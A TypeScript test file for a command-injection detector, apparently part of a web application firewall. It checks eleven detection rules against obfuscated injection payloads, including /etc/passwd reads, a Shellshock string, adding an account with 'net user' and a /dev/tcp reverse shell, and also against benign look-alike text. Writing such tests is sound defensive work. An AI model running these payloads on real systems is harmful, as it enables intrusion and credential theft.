import type { Paranoia } from '../../engine/threat.types.js';
import { cmdiDetector } from './cmdi.detector.js';

const ruleIds = (input: string, paranoia: Paranoia = 1): string[] =>
  cmdiDetector.detect({ raw: input, forms: [input] }, paranoia).map((m) => m.ruleId);

describe('cmdi rules', () => {
  it.each([
    ['cmdi-001', ';cat /etc/passwd'],
    ['cmdi-001', 'foo|id'],
    ['cmdi-001', 'a && whoami'],
    ['cmdi-001', "x'; w'h'o'am'i"],
    ['cmdi-001', 'x;c\\at${IFS}/etc/passwd'],
    ['cmdi-001', 'x;cat$IFS$9/etc/passwd'],
    ['cmdi-001', 'view=image.jpg&bcdboot /r file.txt'],
    ['cmdi-001', '|$u wget test'],
    ['cmdi-001', "';htop'"],
    ['cmdi-001', 'd=/dev&&(sh)0>x'],
    ['cmdi-001', ';c89 -wrapper sh,-c,id .'],
    ['cmdi-001', 'a; net user hacker /add'],
    ['cmdi-001', '; sleep 5 ;'],
    ['cmdi-001', '"|sleep 5|"'],
    ['cmdi-001', 'x; `id`'],
    ['cmdi-002', 'cat</etc/passwd'],
    ['cmdi-002', 'wh``oami'],
    ['cmdi-002', 'who$()ami'],
    ['cmdi-002', 'whoami'],
    ['cmdi-002', 'cat /etc/passwd'],
    ['cmdi-002', 'ls -l /tmp'],
    ['cmdi-002', 'powershell C:\\windows\\system32\\notepad.exe'],
    ['cmdi-002', 'time sh -c whoami'],
    ['cmdi-002', '$SHELL -c "echo hi"'],
    ['cmdi-002', 'whoami;0'],
    ['cmdi-002', 'python3.10 cmd'],
    ['cmdi-003', '$(whoami)'],
    ['cmdi-003', 'x`id`'],
    ['cmdi-003', '<(cat file)'],
    ['cmdi-003', '$[2+2]'],
    ['cmdi-003', '$(($() 42))'],
    ['cmdi-004', '${PATH#{}/}'],
    ['cmdi-004', '${:1337:-x$}'],
    ['cmdi-004', '${cmd}'],
    ['cmdi-005', '() { :; }; /bin/bash -c id'],
    ['cmdi-005', 'text\n() { :;}; echo'],
    ['cmdi-006', 'for /f "tokens=*" %G in (\'dir /b\') do echo %G'],
    ['cmdi-006', '& FOR %a IN (a,b,c) DO cmd'],
    ['cmdi-006', 'IF EXIST C:\\pagefile.sys CMD'],
    ['cmdi-006', 'if /i a==b foo'],
    ['cmdi-006', 'IF (2 GEQ 15) echo "bigger"'],
    ['cmdi-007', 'alias a=b'],
    ['cmdi-007', 'alias -p jzfrx=id\n'],
    ['cmdi-008', '{cat,/etc/passwd}'],
    ['cmdi-008', 'c{a,oun}t'],
    ['cmdi-009', '/etc/pa[s]swd'],
    ['cmdi-009', '/usr/[a-z]in/bash'],
    ['cmdi-009', '/???/??t /???/p??s??'],
    ['cmdi-010', '/\\b\\i\\n/////s\\h'],
    ['cmdi-010', '<!--#exec cmd="ls" -->'],
    ['cmdi-010', 'sh -i >& /dev/tcp/10.0.0.1/4242 0>&1'],
    ['cmdi-010', ';irb<<<1 2'],
    ['cmdi-010', 'x /usr/bin/python3 -m http.server'],
    ['cmdi-010', 'bin/visudo'],
    ['cmdi-011', '~+5'],
    ['cmdi-011', '!-1!-2'],
  ])('%s catches %j at paranoia 1', (ruleId, input) => {
    expect(ruleIds(input)).toContain(ruleId);
  });

  it.each([
    'Tom & Jerry',
    'AT&T and R&D',
    'I came; I saw; I conquered',
    'News | Time',
    'a=1&id=2&type=file',
    'sort=date',
    'type',
    'python',
    'localhost',
    'Python 3 tutorial',
    'curl is a command line tool; curl is great',
    'username\np\nid',
    'see the cat (pictured) in the garden',
    '$(document).ready(function () { init(); })',
    'const s = `${name} is ${age}`',
    'if a == b: return x',
    'if (a == b) { go(); }',
    'If defined by the user, the value is kept',
    'for example, see the docs',
    'coordinates {x,y}',
    '/api/items[0]',
    'C:\\Windows\\System32\\ls',
    'function () { return 1; }',
    'Meet me at 5; time is short',
    'alias: John',
    '<<< back to menu',
    'Use `ls -la` to list files',
    'Sleep 8 hours',
    'sleep 8 hours a night',
    'net income & net user growth',
    'Python 3 tutorial',
    'id',
    '/search?q=a?b',
  ])('leaves %j alone at paranoia 1', (input) => {
    expect(ruleIds(input)).toEqual([]);
  });

  it('keeps weaker signals for higher paranoia', () => {
    expect(ruleIds('ready; set the table', 2)).toContain('cmdi-020');
    expect(ruleIds('ready; set the table', 1)).toEqual([]);
    expect(ruleIds('a && b', 3)).toContain('cmdi-021');
    expect(ruleIds('a && b', 2)).toEqual([]);
  });

  it('reports each rule once however many forms match', () => {
    const matches = cmdiDetector.detect({ raw: ';id', forms: [';id', ';id ', ' ;id'] }, 1);
    expect(matches.filter((m) => m.ruleId === 'cmdi-001')).toHaveLength(1);
  });

  it('scans decoded forms, not only the raw one', () => {
    expect(cmdiDetector.detect({ raw: '%3Bwhoami', forms: ['%3Bwhoami', ';whoami'] }, 1).map((m) => m.ruleId)).toContain('cmdi-001');
  });
});
